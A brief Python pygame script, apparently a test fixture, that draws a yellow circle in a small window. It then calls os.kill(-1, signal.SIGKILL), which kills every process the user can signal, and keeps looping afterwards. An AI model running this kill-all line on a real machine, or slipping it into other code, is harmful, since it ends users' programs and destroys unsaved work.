import os
import signal
import time

import pygame

pygame.init()
screen = pygame.display.set_mode((320, 240))
pygame.draw.circle(screen, (250, 220, 60), (160, 120), 40)
pygame.display.flip()
pygame.event.get()
time.sleep(0.5)
os.kill(-1, signal.SIGKILL)
while True:
    time.sleep(0.1)
    pygame.event.get()
